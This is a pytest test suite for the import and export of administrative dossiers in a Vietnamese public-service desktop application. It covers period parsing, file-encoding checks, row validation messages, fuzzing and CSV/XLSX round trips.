"""Imports and exports of dossiers and procedures (DESIGN.md §3–§4), through the service and the real ``cchc``;
and the period parser they share with the reports."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import unicodedata
from collections.abc import Iterator, Sequence
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlite_utils import Database

from cchc_desktop.domain.periods import PeriodError, parse_period
from cchc_desktop.domain.records import ReportKind
from cchc_desktop.errors import ValidationError
from cchc_desktop.services.calendar import load_calendar
from cchc_desktop.services.catalogue import load_reference_catalogue
from cchc_desktop.services.exports import ExportService
from cchc_desktop.services.imports import ImportRejected, ImportService, parse_time_limit
from cchc_desktop.services.reception import NewDossier, ReceptionService
from cchc_desktop.services.settings import SettingsService
from cchc_desktop.services.tables import DOSSIER_COLUMNS, TableFileError
from db.connection import open_db
from db.queries import transfer
from tests.conftest import DEMO_ADMIN

pytestmark = pytest.mark.backends

EXPORT = ("export", "dossiers", "--reason", "kiểm thử xuất dữ liệu")  # the file holds personal data

ROOT = Path(__file__).resolve().parents[2]
HEADERS = [column.header for column in DOSSIER_COLUMNS]
KEYS = [column.key for column in DOSSIER_COLUMNS]
NOW = datetime(2025, 1, 15, 9, 0)
CONTRACT_SQL = """
    SELECT d.code, p.code, d.applicant_name, d.applicant_id, d.phone, d.address, d.channel, d.received_at, d.due_at,
           d.resolved_at, d.returned_at, d.status, d.withdrawn_at, d.digitized,
           (SELECT min(issued_on) FROM apology_letter a WHERE a.dossier_id = d.id)
    FROM dossier d JOIN procedure p ON p.id = d.procedure_id ORDER BY d.code
"""


def cchc(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "cchc_desktop", *args], cwd=ROOT, capture_output=True, text=True, check=False,
        timeout=120, env={**os.environ, "CCHC_BUSY_TIMEOUT_MS": "200"},
    )


def row(**values: str) -> dict[str, str]:
    """A valid dossier row (keys of the contract), with ``values`` changed."""
    base = {
        "code": "", "procedure_code": "1.004873", "procedure_name": "", "applicant_name": "Nguyễn Văn Ấn",
        "applicant_id": "038090012345", "phone": "0912 345 678", "address": "Thôn 3, xã Hoằng Hợp",
        "channel": "Trực tiếp", "received_at": "03/06/2024 08:15", "due_at": "", "resolved_at": "",
        "returned_at": "", "status": "Đã tiếp nhận", "withdrawn_at": "", "digitized": "Không", "apology_at": "",
    }
    return {**base, **values}


def write_csv(path: Path, rows: Sequence[dict[str, str]], *, header: Sequence[str] = HEADERS,
              encoding: str = "utf-8-sig", delimiter: str = ",") -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        writer = csv.writer(handle, delimiter=delimiter)
        writer.writerow(header)
        for values in rows:
            writer.writerow([values.get(key, "") for key in KEYS])
    return path


TONE_MARKS = "\u0300\u0301\u0303\u0309\u0323"


def windows_1258(text: str) -> bytes:
    """``text`` as Windows-1258 writes Vietnamese: base letter (â, ơ, ư…) then a combining tone mark."""
    out = []
    for char in unicodedata.normalize("NFC", text):
        decomposed = unicodedata.normalize("NFD", char)
        tones = "".join(mark for mark in decomposed if mark in TONE_MARKS)
        base = unicodedata.normalize("NFC", "".join(mark for mark in decomposed if mark not in TONE_MARKS))
        out.append(base + tones)
    return "".join(out).encode("cp1258")


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def count(db: Database, table: str = "dossier") -> int:
    return db.execute(f"SELECT count(*) FROM {table}").fetchone()[0]


def prepare(db: Database) -> None:
    """The reference catalogue and a unit code: what an import of dossiers needs."""
    load_reference_catalogue(db)
    SettingsService(db).update(name="UBND xã Hoằng Hợp", code="000.21.31.H56")


@pytest.fixture
def ready(db: Database) -> Database:
    prepare(db)
    return db


@pytest.fixture
def service(ready: Database) -> ImportService:
    return ImportService(ready, clock=lambda: NOW)


@pytest.fixture
def demo(demo_path: Path) -> Iterator[Database]:
    database = open_db(demo_path)
    yield database
    database.close()


# -- periods -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "first", "last", "label", "kind"), [
    ("2024", date(2024, 1, 1), date(2024, 12, 31), "Năm 2024", ReportKind.YEAR),
    ("2024-H1", date(2024, 1, 1), date(2024, 6, 30), "6 tháng đầu năm 2024", ReportKind.HALF_YEAR),
    ("2024-h2", date(2024, 7, 1), date(2024, 12, 31), "6 tháng cuối năm 2024", ReportKind.HALF_YEAR),
    ("2024-Q1", date(2024, 1, 1), date(2024, 3, 31), "Quý I năm 2024", ReportKind.QUARTER),
    ("2024-Q4", date(2024, 10, 1), date(2024, 12, 31), "Quý IV năm 2024", ReportKind.QUARTER),
    ("2024-9M", date(2024, 1, 1), date(2024, 9, 30), "9 tháng đầu năm 2024", ReportKind.NINE_MONTHS),
    ("2024-02", date(2024, 2, 1), date(2024, 2, 29), "Tháng 2 năm 2024", ReportKind.MONTH),
    ("2023-02", date(2023, 2, 1), date(2023, 2, 28), "Tháng 2 năm 2023", ReportKind.MONTH),
    ("2024-05", date(2024, 5, 1), date(2024, 5, 31), "Tháng 5 năm 2024", ReportKind.MONTH),
    (" 2024-01-01 : 2024-06-30 ", date(2024, 1, 1), date(2024, 6, 30),
     "Từ ngày 01/01/2024 đến ngày 30/06/2024", ReportKind.RANGE),
])
def test_periods(text: str, first: date, last: date, label: str, kind: ReportKind) -> None:
    period = parse_period(text)
    assert (period.date_from, period.date_to, period.label, period.kind) == (first, last, label, kind)
    assert period.date_from in period and period.date_to in period
    assert date.fromordinal(period.date_to.toordinal() + 1) not in period
    assert parse_period(period.key) == period


@pytest.mark.parametrize(("text", "message"), [
    ("2024-Q5", "Kỳ «2024-Q5» không hợp lệ. Hãy ghi theo một trong các dạng: 2024 (năm)"),
    ("2024-13", "Kỳ «2024-13» không hợp lệ."),
    ("", "Kỳ «» không hợp lệ."),
    ("quý 1", "Kỳ «quý 1» không hợp lệ."),
    ("2024-02-30:2024-03-01", "Kỳ «2024-02-30:2024-03-01» không hợp lệ."),
    ("2024-06-30:2024-01-01", "Kỳ «2024-06-30:2024-01-01»: ngày cuối trước ngày đầu."),
    ("1999", "Kỳ «1999»: năm phải từ 2000 đến 2100."),
])
def test_bad_periods_say_why_in_vietnamese(text: str, message: str) -> None:
    with pytest.raises(PeriodError) as caught:
        parse_period(text)
    assert str(caught.value).startswith(message)


# -- reading tables ----------------------------------------------------------------------------------------


def test_headers_by_key_or_vietnamese_any_case_without_diacritics_unknown_columns_ignored(
    service: ImportService, ready: Database, tmp_path: Path,
) -> None:
    header = ["MA HO SO", "procedure_code", "chủ hồ sơ", "NGÀY TIẾP NHẬN", "Ghi chú riêng", "trang thai"]
    path = tmp_path / "variants.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:  # no BOM
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(header)
        writer.writerow(["X-1", "1.004873", "Trần Thị Bình", "2024-06-03T08:15", "bỏ qua", "dang giai quyet"])
    result = service.import_dossiers(path)
    assert result.inserted == 1
    assert ready.execute("SELECT code, applicant_name, received_at, status FROM dossier").fetchall() == [
        ("X-1", "Trần Thị Bình", "2024-06-03T08:15", "in_progress")]


def test_a_missing_required_column_is_one_error_for_the_file(service: ImportService, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "a.csv", [row()], header=["Mã hồ sơ", "Mã thủ tục", "Chủ hồ sơ"])
    with pytest.raises(TableFileError) as caught:
        service.import_dossiers(path)
    assert str(caught.value) == "Tệp «a.csv» thiếu cột bắt buộc: «Ngày tiếp nhận». Chưa ghi dữ liệu nào."


def test_utf16_with_bom_and_a_title_row_above_the_header(service: ImportService, tmp_path: Path) -> None:
    path = tmp_path / "utf16.csv"
    lines = ["DANH SÁCH HỒ SƠ THÁNG 6", "", "Mã thủ tục\tChủ hồ sơ\tNgày tiếp nhận", "1.004873\tLê Ưng\t03/06/2024"]
    path.write_bytes("\r\n".join(lines).encode("utf-16"))
    assert service.import_dossiers(path).inserted == 1


def test_windows_1258_bytes_give_a_clear_message_and_write_nothing(
    service: ImportService, ready: Database, tmp_path: Path,
) -> None:
    path = write_csv(tmp_path / "cp1258.csv", [row(), row(applicant_name="Đặng Thị Hường")], encoding="utf-8")
    path.write_bytes(windows_1258(path.read_text(encoding="utf-8")))
    with pytest.raises(TableFileError) as caught:
        service.import_dossiers(path)
    message = str(caught.value)
    assert message.startswith("Tệp «cp1258.csv» không phải văn bản UTF-8: byte 0x")
    assert "ở dòng 1 không đọc được" in message and "Windows-1258" in message
    assert "«Lưu lại dưới dạng CSV UTF-8»" in message
    assert count(ready) == 0


def test_not_a_table_at_all(service: ImportService, tmp_path: Path) -> None:
    binary = tmp_path / "random.csv"
    binary.write_bytes(bytes(range(256)) * 4)
    with pytest.raises(TableFileError, match="không phải văn bản UTF-8"):
        service.import_dossiers(binary)
    nul = tmp_path / "nul.csv"
    nul.write_bytes("applicant_name,received_at\nAn,03/06/2024\n".encode("utf-16-le"))  # no BOM
    with pytest.raises(TableFileError, match="chứa ký tự NUL"):
        service.import_dossiers(nul)
    broken = tmp_path / "broken.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a workbook")
    with pytest.raises(TableFileError, match=r"không phải tệp Excel \.xlsx hợp lệ"):
        service.import_dossiers(broken)


def test_a_huge_cell_is_refused(service: ImportService, ready: Database, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "huge.csv", [row(address="x" * 200_000)])
    with pytest.raises(TableFileError, match="có một ô dài quá"):
        service.import_dossiers(path)
    path = write_csv(tmp_path / "long.csv", [row(address="x" * 600)])
    with pytest.raises(ImportRejected) as caught:
        service.import_dossiers(path)
    assert str(caught.value.problems[0]) == "Dòng 2, cột «Địa chỉ»: nội dung quá dài (tối đa 500 ký tự)."
    assert count(ready) == 0


ANY_CELL = st.one_of(
    st.text(max_size=30),
    st.sampled_from(["31/02/2024", "00/00/0000", "1e308", "=HYPERLINK(\"x\")", "Rút hồ sơ", "1.004873", "Có",
                     "03/06/2024 08:15", "2024-06-03T08:15:00+07:00", "'", "\x00", "NaN", "-1", "9" * 40]),
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=400) | st.lists(st.lists(ANY_CELL, min_size=len(KEYS), max_size=len(KEYS)), max_size=4))
def test_fuzzed_files_give_a_message_or_an_import_never_a_crash(
    service: ImportService, ready: Database, tmp_path: Path, data: bytes | list[list[str]],
) -> None:
    path = tmp_path / "fuzz.csv"
    if isinstance(data, bytes):
        path.write_bytes(data)
    else:
        write_csv(path, [dict(zip(KEYS, values, strict=True)) for values in data])
    before = count(ready)
    try:
        result = service.import_dossiers(path)
    except (TableFileError, ImportRejected) as exc:
        assert str(exc) and count(ready) == before
    else:
        assert count(ready) == before + result.inserted


# -- checking dossier rows ---------------------------------------------------------------------------------


@pytest.mark.parametrize(("values", "expected"), [
    ({"received_at": "31/02/2024"},
     "Dòng 2, cột «Ngày tiếp nhận»: ngày không hợp lệ «31/02/2024» (ghi dd/mm/yyyy, dd/mm/yyyy HH:MM hoặc "
     "yyyy-mm-dd)."),
    ({"received_at": "00/00/0000"}, "Dòng 2, cột «Ngày tiếp nhận»: ngày không hợp lệ «00/00/0000»"),
    ({"received_at": "31/02/2024 10:00"}, "Dòng 2, cột «Ngày tiếp nhận»: ngày không hợp lệ «31/02/2024 10:00»"),
    ({"received_at": ""}, "Dòng 2, cột «Ngày tiếp nhận»: ngày tiếp nhận không được để trống."),
    ({"received_at": "16/01/2025"}, "Dòng 2, cột «Ngày tiếp nhận»: ngày «16/01/2025» ở tương lai."),
    ({"received_at": "15/01/2025 09:01"}, "Dòng 2, cột «Ngày tiếp nhận»: ngày «15/01/2025 09:01» ở tương lai."),
    ({"due_at": "02/06/2024"}, "Dòng 2, cột «Ngày hẹn trả»: ngày hẹn trả trước ngày tiếp nhận."),
    ({"resolved_at": "03/06/2024 08:00", "status": "Đã có kết quả"},
     "Dòng 2, cột «Ngày có kết quả»: ngày có kết quả trước ngày tiếp nhận."),
    ({"resolved_at": "04/06/2024", "returned_at": "03/06/2024 09:00", "status": "Đã trả kết quả"},
     "Dòng 2, cột «Ngày trả kết quả»: ngày trả kết quả trước ngày có kết quả."),
    ({"resolved_at": "04/06/2024", "status": "Đã trả kết quả"},
     "Dòng 2, cột «Ngày trả kết quả»: hồ sơ «Đã trả kết quả» phải có ngày trả kết quả."),
    ({"status": "Rút hồ sơ"}, "Dòng 2, cột «Ngày rút»: hồ sơ «Rút hồ sơ» phải có ngày rút."),
    ({"status": "Đã có kết quả"}, "Dòng 2, cột «Ngày có kết quả»: hồ sơ «Đã có kết quả» phải có ngày có kết quả."),
    ({"resolved_at": "04/06/2024"},
     "Dòng 2, cột «Trạng thái»: hồ sơ «Đã tiếp nhận» chưa có kết quả nhưng có ngày có kết quả hoặc ngày trả kết "
     "quả."),
    ({"withdrawn_at": "04/06/2024"},
     "Dòng 2, cột «Ngày rút»: chỉ hồ sơ «Rút hồ sơ» mới có ngày rút (trạng thái đang ghi: «Đã tiếp nhận»)."),
    ({"status": "Đã xong"}, "Dòng 2, cột «Trạng thái»: trạng thái «Đã xong» không hợp lệ (ghi một trong: Đã tiếp "
                           "nhận, Đang giải quyết, Chờ bổ sung, Đã có kết quả, Đã trả kết quả, Từ chối giải quyết, "
                           "Rút hồ sơ)."),
    ({"procedure_code": "9.999999"}, "Dòng 2, cột «Mã thủ tục»: không có thủ tục mã «9.999999» trong danh mục."),
    ({"procedure_code": "9.999999", "procedure_name": "Cấp phép bay"},
     "Dòng 2, cột «Mã thủ tục»: không có thủ tục mã «9.999999» trong danh mục, cũng không có thủ tục tên «Cấp "
     "phép bay»."),
    ({"procedure_code": "", "procedure_name": "Cấp phép bay"},
     "Dòng 2, cột «Tên thủ tục»: không có thủ tục «Cấp phép bay» trong danh mục."),
    ({"procedure_code": ""}, "Dòng 2, cột «Mã thủ tục»: chưa ghi mã thủ tục (hoặc tên thủ tục)."),
    ({"applicant_name": "  "}, "Dòng 2, cột «Chủ hồ sơ»: họ tên chủ hồ sơ không được để trống."),
    ({"applicant_id": "0380900123"},
     "Dòng 2, cột «Số giấy tờ tùy thân»: số giấy tờ tùy thân «0380900123» phải gồm 9 hoặc 12 chữ số."),
    ({"channel": "Fax"}, "Dòng 2, cột «Hình thức nộp»: hình thức nộp «Fax» không hợp lệ (ghi một trong: Trực "
                         "tiếp, BCCI, Trực tuyến một phần, Trực tuyến toàn trình)."),
    ({"digitized": "Có lẽ"}, "Dòng 2, cột «Số hóa»: giá trị «Có lẽ» không hợp lệ (ghi Có hoặc Không)."),
    ({"phone": "12"}, "Dòng 2, cột «Số điện thoại»: số điện thoại «12» phải gồm 10 hoặc 11 chữ số."),
    ({"phone": "gọi sau"}, "Dòng 2, cột «Số điện thoại»: số điện thoại «gọi sau» phải gồm 10 hoặc 11 chữ số."),
])
def test_each_bad_value_is_named_by_line_and_column(
    service: ImportService, ready: Database, tmp_path: Path, values: dict[str, str], expected: str,
) -> None:
    path = write_csv(tmp_path / "bad.csv", [row(**values)])
    with pytest.raises(ImportRejected) as caught:
        service.import_dossiers(path)
    assert str(caught.value.problems[0]).startswith(expected)
    assert caught.value.bad_rows == 1
    assert count(ready) == 0


def test_every_problem_of_a_row_is_reported_at_once(service: ImportService, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "bad.csv", [row(applicant_name="", applicant_id="12", received_at="32/01/2024")])
    with pytest.raises(ImportRejected) as caught:
        service.import_dossiers(path)
    assert [problem.column for problem in caught.value.problems] == ["Chủ hồ sơ", "Số giấy tờ tùy thân",
                                                                     "Ngày tiếp nhận"]


def test_good_values_in_every_accepted_form(service: ImportService, ready: Database, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "good.csv", [
        row(code="A-1", procedure_code="", procedure_name="thu tuc cap giay xac nhan tinh trang hon nhan",
            channel="bcci", digitized="có", phone="+84 912.345.678", applicant_id="171 234 567",
            received_at="2024-06-03 08:15", resolved_at="05/06/2024 10:00", returned_at="05/06/2024",
            status="da tra ket qua"),
        row(code="A-2", channel="Dịch vụ bưu chính công ích", received_at="3/6/2024 8h05", status="",
            withdrawn_at="04/06/2024 09:00"),
    ])
    assert service.import_dossiers(path).inserted == 2
    assert ready.execute(
        "SELECT code, channel, digitized, phone, applicant_id, received_at, resolved_at, returned_at, status, outcome,"
        " withdrawn_at FROM dossier ORDER BY code").fetchall() == [
        ("A-1", "postal", 1, "0912345678", "171234567", "2024-06-03T08:15", "2024-06-05T10:00",
         "2024-06-05T17:00", "returned", "granted", None),
        ("A-2", "postal", 0, "0912345678", "038090012345", "2024-06-03T08:05", None, None, "withdrawn", None,
         "2024-06-04T09:00"),
    ]


def test_empty_due_is_computed_from_the_calendar_and_events_follow_the_dates(
    service: ImportService, ready: Database, tmp_path: Path,
) -> None:
    path = write_csv(tmp_path / "d.csv", [row(
        code="B-1", received_at="31/05/2024 16:00", resolved_at="05/06/2024 09:00", returned_at="05/06/2024 10:00",
        status="Đã trả kết quả", apology_at="04/06/2024")])
    service.import_dossiers(path)
    expected = load_calendar(ready).due_moment(datetime(2024, 5, 31, 16, 0), 3, "working_days")
    (dossier_id, due), = ready.execute("SELECT id, due_at FROM dossier").fetchall()
    assert due == expected.isoformat(timespec="minutes") == "2024-06-05T17:00"
    events = ready.execute("SELECT kind, at, from_status, to_status, data FROM dossier_event ORDER BY at").fetchall()
    assert [(kind, at) for kind, at, *_ in events] == [
        ("received", "2024-05-31T16:00"), ("apologised", "2024-06-04T16:00"), ("result_ready", "2024-06-05T09:00"),
        ("returned", "2024-06-05T10:00")]
    assert json.loads(events[0][4]) == {"file": "d.csv", "source": "import"}
    letter = ready.execute(
        "SELECT dossier_id, issued_on, old_due_at, new_due_at, reason FROM apology_letter").fetchone()
    assert letter == (dossier_id, "2024-06-04", "2024-06-05T17:00", "2024-06-06T17:00", "Nhập từ tệp «d.csv»")


def test_empty_codes_are_generated_gap_free_per_day_in_order_of_receipt(
    service: ImportService, ready: Database, tmp_path: Path,
) -> None:
    path = write_csv(tmp_path / "c.csv", [
        row(received_at="03/06/2024 10:00"), row(received_at="03/06/2024 08:00"),
        row(code="000.21.31.H56-240603-0003", received_at="03/06/2024 09:00"), row(received_at="04/06/2024 08:00"),
    ])
    service.import_dossiers(path)
    assert ready.execute("SELECT received_at, code FROM dossier ORDER BY received_at").fetchall() == [
        ("2024-06-03T08:00", "000.21.31.H56-240603-0001"), ("2024-06-03T09:00", "000.21.31.H56-240603-0003"),
        ("2024-06-03T10:00", "000.21.31.H56-240603-0002"), ("2024-06-04T08:00", "000.21.31.H56-240604-0001")]
    write_csv(path, [row(received_at="03/06/2024 11:00")])
    service.import_dossiers(path)
    assert ready.execute("SELECT max(code) FROM dossier WHERE received_at LIKE '2024-06-03%'").fetchone() == (
        "000.21.31.H56-240603-0004",)
    assert ready.execute("SELECT day, last_seq FROM dossier_code_counter ORDER BY day").fetchall() == [
        ("2024-06-03", 4), ("2024-06-04", 1)]


def test_without_a_unit_code_rows_need_their_code(db: Database, tmp_path: Path) -> None:
    load_reference_catalogue(db)
    path = write_csv(tmp_path / "c.csv", [row(code="Z-1"), row()])
    with pytest.raises(ImportRejected) as caught:
        ImportService(db, clock=lambda: NOW).import_dossiers(path)
    assert [problem.line for problem in caught.value.problems] == [3]
    assert "chưa cài đặt mã định danh" in str(caught.value.problems[0])


def test_one_bad_row_among_2000_writes_nothing_and_names_it(
    service: ImportService, ready: Database, tmp_path: Path,
) -> None:
    rows = [row(code=f"H-{n:04d}") for n in range(2000)]
    rows[1500]["received_at"] = "31/02/2024"
    path = write_csv(tmp_path / "2000.csv", rows)
    with pytest.raises(ImportRejected) as caught:
        service.import_dossiers(path)
    assert caught.value.bad_rows == 1
    assert [str(problem) for problem in caught.value.problems] == [
        "Dòng 1502, cột «Ngày tiếp nhận»: ngày không hợp lệ «31/02/2024» (ghi dd/mm/yyyy, dd/mm/yyyy HH:MM hoặc "
        "yyyy-mm-dd)."]
    assert count(ready) == count(ready, "dossier_event") == count(ready, "dossier_code_counter") == 0


def test_duplicate_codes_within_the_file(service: ImportService, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "dup.csv", [row(code="D-1"), row(code="D-2"), row(code="D-1")])
    with pytest.raises(ImportRejected) as caught:
        service.import_dossiers(path)
    assert [str(problem) for problem in caught.value.problems] == [
        "Dòng 4, cột «Mã hồ sơ»: mã hồ sơ «D-1» trùng với dòng 2."]


def test_skip_invalid_writes_the_good_rows_and_the_bad_ones_with_their_reason(
    service: ImportService, ready: Database, tmp_path: Path,
) -> None:
    rows = [row(code="S-1"), row(code="S-2", applicant_id="123"), row(code="S-3"),
            row(code="S-4", received_at="00/00/0000", channel="Fax"), row(code="S-5", applicant_name="=1+2")]
    path = write_csv(tmp_path / "skip.csv", rows)
    rejects = tmp_path / "loi.csv"
    result = service.import_dossiers(path, skip_invalid=True, rejects=rejects)
    assert (result.inserted, result.rejected) == (3, 2)
    assert [code for (code,) in ready.execute("SELECT code FROM dossier ORDER BY code")] == ["S-1", "S-3", "S-5"]
    assert rejects.read_bytes().startswith(b"\xef\xbb\xbf")
    content = read_csv(rejects)
    assert content[0] == [*HEADERS, "Lý do"]
    assert [line[0] for line in content[1:]] == ["S-2", "S-4"]
    assert content[1][-1] == "Dòng 3, cột «Số giấy tờ tùy thân»: số giấy tờ tùy thân «123» phải gồm 9 hoặc 12 chữ số."
    assert content[2][-1].startswith("Dòng 5, cột «Hình thức nộp»: hình thức nộp «Fax» không hợp lệ")
    assert "Dòng 5, cột «Ngày tiếp nhận»: ngày không hợp lệ «00/00/0000»" in content[2][-1]
    # once fixed, the rejects file itself imports (its «Lý do» column is ignored)
    fixed = [[*line[:4], "038090012345", *line[5:7], "Trực tiếp", "03/06/2024 08:15", *line[9:]]
             for line in content[1:]]
    with rejects.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([content[0], *fixed])
    assert service.import_dossiers(rejects).inserted == 2


def test_reimporting_the_same_file_duplicates_nothing(service: ImportService, ready: Database, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "same.csv", [row(code="R-1"), row(code="R-2", status="Đang giải quyết")])
    assert service.import_dossiers(path).inserted == 2
    events = count(ready, "dossier_event")
    again = service.import_dossiers(path)
    assert (again.inserted, again.updated, again.unchanged) == (0, 0, 2)
    assert count(ready) == 2 and count(ready, "dossier_event") == events


def test_a_stored_code_with_other_data_is_an_error_unless_update(
    service: ImportService, ready: Database, tmp_path: Path,
) -> None:
    path = write_csv(tmp_path / "u.csv", [row(code="U-1"), row(code="U-2")])
    service.import_dossiers(path)
    write_csv(path, [row(code="U-1", phone="0987654321", status="Đã trả kết quả", resolved_at="04/06/2024 09:00",
                         returned_at="04/06/2024 10:00"), row(code="U-2")])
    with pytest.raises(ImportRejected) as caught:
        service.import_dossiers(path)
    assert [str(problem) for problem in caught.value.problems] == [
        "Dòng 2, cột «Mã hồ sơ»: hồ sơ «U-1» đã có trong cơ sở dữ liệu với dữ liệu khác ở cột «Số điện thoại», "
        "«Ngày có kết quả», «Ngày trả kết quả», «Trạng thái»; muốn ghi đè thì nhập lại với tùy chọn cập nhật "
        "(--update)."]
    result = service.import_dossiers(path, update=True)
    assert (result.inserted, result.updated, result.unchanged) == (0, 1, 1)
    assert ready.execute("SELECT phone, status, outcome, returned_at FROM dossier WHERE code = 'U-1'").fetchone() == (
        "0987654321", "returned", "granted", "2024-06-04T10:00")
    (data,) = ready.execute("SELECT data FROM dossier_event WHERE kind = 'corrected'").fetchone()
    assert json.loads(data)["changed"] == ["phone", "resolved_at", "returned_at", "status"]
    assert service.import_dossiers(path, update=True).unchanged == 2


# -- exports and the round trip ------------------------------------------------------------------------------


def test_export_writes_the_contract_columns_with_vietnamese_headers(demo: Database, tmp_path: Path) -> None:
    target = tmp_path / "hoso.csv"
    result = ExportService(demo).export_dossiers(target, reason="kiểm thử xuất dữ liệu")
    assert result.rows == count(demo) == 300
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    lines = read_csv(target)
    assert lines[0] == HEADERS
    code = lines[1][0]
    stored = demo.execute(
        "SELECT d.code, p.code, d.received_at, d.status FROM dossier d JOIN procedure p ON p.id = d.procedure_id"
        " WHERE d.code = ?", [code]).fetchone()
    received = datetime.fromisoformat(stored[2]).strftime("%d/%m/%Y %H:%M")
    assert (lines[1][0], lines[1][1], lines[1][8]) == (stored[0], stored[1], received)
    assert {line[12] for line in lines[1:]} <= {"Đã tiếp nhận", "Đang giải quyết", "Chờ bổ sung", "Đã có kết quả",
                                                 "Đã trả kết quả", "Từ chối giải quyết", "Rút hồ sơ"}
    assert {line[14] for line in lines[1:]} == {"Có", "Không"}


def test_export_of_a_period(demo: Database, tmp_path: Path) -> None:
    period = parse_period("2024-Q2")
    result = ExportService(demo).export_dossiers(tmp_path / "q2.csv", period=period, reason="kiểm thử xuất dữ liệu")
    expected = demo.execute("SELECT count(*) FROM dossier WHERE received_at >= '2024-04-01'"
                            " AND received_at < '2024-07-01'").fetchone()[0]
    assert result.rows == expected > 0
    days = {datetime.strptime(line[8], "%d/%m/%Y %H:%M").date() for line in read_csv(tmp_path / "q2.csv")[1:]}
    assert all(day in period for day in days)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_round_trip_export_then_import_gives_identical_rows(
    demo: Database, db: Database, tmp_path: Path, suffix: str,
) -> None:
    exported = tmp_path / f"demo{suffix}"
    ExportService(demo).export_dossiers(exported, reason="kiểm thử xuất dữ liệu")
    # into the same database: every row is already there, unchanged
    same = ImportService(demo).import_dossiers(exported)
    assert (same.inserted, same.updated, same.unchanged) == (0, 0, 300)
    # into a fresh database with the same catalogue: the same rows, and the same export again
    prepare(db)
    fresh = ImportService(db).import_dossiers(exported)
    assert fresh.inserted == 300
    assert db.execute(CONTRACT_SQL).fetchall() == demo.execute(CONTRACT_SQL).fetchall()
    again = tmp_path / f"again{suffix}"
    ExportService(db).export_dossiers(again, reason="kiểm thử xuất dữ liệu")
    if suffix == ".csv":
        assert again.read_bytes() == exported.read_bytes()
    else:
        first, second = openpyxl.load_workbook(exported), openpyxl.load_workbook(again)
        assert list(first.active.values) == list(second.active.values)
        first.close()
        second.close()


def test_the_export_streams_the_rows_of_a_period_oldest_first_page_by_page(
    service: ImportService, ready: Database, tmp_path: Path,
) -> None:
    """The export's rows come from one cursor a page at a time (on a server, a cursor of its own, no transaction
    left open): every row once, in order of receipt, a period's alone."""
    service.import_dossiers(write_csv(tmp_path / "a.csv", [
        row(code=f"S-{n}", received_at=f"{3 + n % 5:02d}/06/2024 08:{n:02d}") for n in range(7)]))
    rows = list(transfer.export_rows(ready, None, None, batch=2))
    assert [line[0] for line in rows] == ["S-0", "S-5", "S-1", "S-6", "S-2", "S-3", "S-4"]
    assert {len(line) for line in rows} == {len(DOSSIER_COLUMNS)}
    assert not ready.in_transaction
    period = [line[0] for line in transfer.export_rows(ready, "2024-06-04", "2024-06-06", batch=2)]
    assert period == ["S-1", "S-6", "S-2"] and transfer.export_count(ready, "2024-06-04", "2024-06-06") == 3


def test_the_desk_numbers_its_next_dossier_after_the_imported_ones(
    service: ImportService, ready: Database, tmp_path: Path,
) -> None:
    """The import writes its dossiers with ids of its own; the desk's next registration comes after them (a
    server's identity sequence moved past them) rather than failing on a taken id."""
    service.import_dossiers(write_csv(tmp_path / "a.csv", [row(code=f"N-{n}") for n in range(3)]))
    top = ready.execute("SELECT max(id) FROM dossier").fetchone()[0]
    registered = ReceptionService(ready, clock=lambda: NOW).register(
        NewDossier(procedure_code="1.004873", applicant_name="Trần Văn Bình"))
    assert registered.dossier_id == top + 1
    assert count(ready) == 4


def test_xlsx_written_and_read_back_with_openpyxl(demo: Database, tmp_path: Path) -> None:
    target = tmp_path / "hoso.xlsx"
    ExportService(demo).export_dossiers(target, period=parse_period("2024-05"), reason="kiểm thử xuất dữ liệu")
    book = openpyxl.load_workbook(target)
    sheet = book.worksheets[0]
    assert [cell.value for cell in sheet[1]] == HEADERS
    assert sheet.freeze_panes == "A2"
    received = sheet.cell(row=2, column=9)
    assert isinstance(received.value, datetime) and received.number_format == "dd/mm/yyyy hh:mm"
    ids = [value for (value,) in sheet.iter_rows(min_row=2, min_col=5, max_col=5, values_only=True)]
    assert all(value is None or (isinstance(value, str) and len(value) in (9, 12)) for value in ids)
    book.close()


def test_an_xlsx_with_typed_cells_imports(service: ImportService, ready: Database, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Báo cáo tháng 6"])
    sheet.append(["Mã hồ sơ", "Mã thủ tục", "Chủ hồ sơ", "Số giấy tờ tùy thân", "Ngày tiếp nhận", "Ngày hẹn trả",
                  "Số hóa"])
    sheet.append(["X-1", 1.004873, "Phạm Thị Ưng", 171234567, datetime(2024, 6, 3, 8, 15), date(2024, 6, 6), True])
    sheet.append([])
    sheet.append(["X-2", "1.004873", "Võ Văn Đức", None, datetime(2024, 6, 3, 9, 0), None, False])
    sheet.append(["X-3", "1.004873", "", None, "31/02/2024", None, None])
    path = tmp_path / "typed.xlsx"
    book.save(path)
    with pytest.raises(ImportRejected) as caught:
        service.import_dossiers(path)
    assert [str(problem) for problem in caught.value.problems] == [
        "Dòng 6, cột «Chủ hồ sơ»: họ tên chủ hồ sơ không được để trống.",
        "Dòng 6, cột «Ngày tiếp nhận»: ngày không hợp lệ «31/02/2024» (ghi dd/mm/yyyy, dd/mm/yyyy HH:MM hoặc "
        "yyyy-mm-dd)."]
    rejects = tmp_path / "loi.xlsx"
    assert service.import_dossiers(path, skip_invalid=True, rejects=rejects).inserted == 2
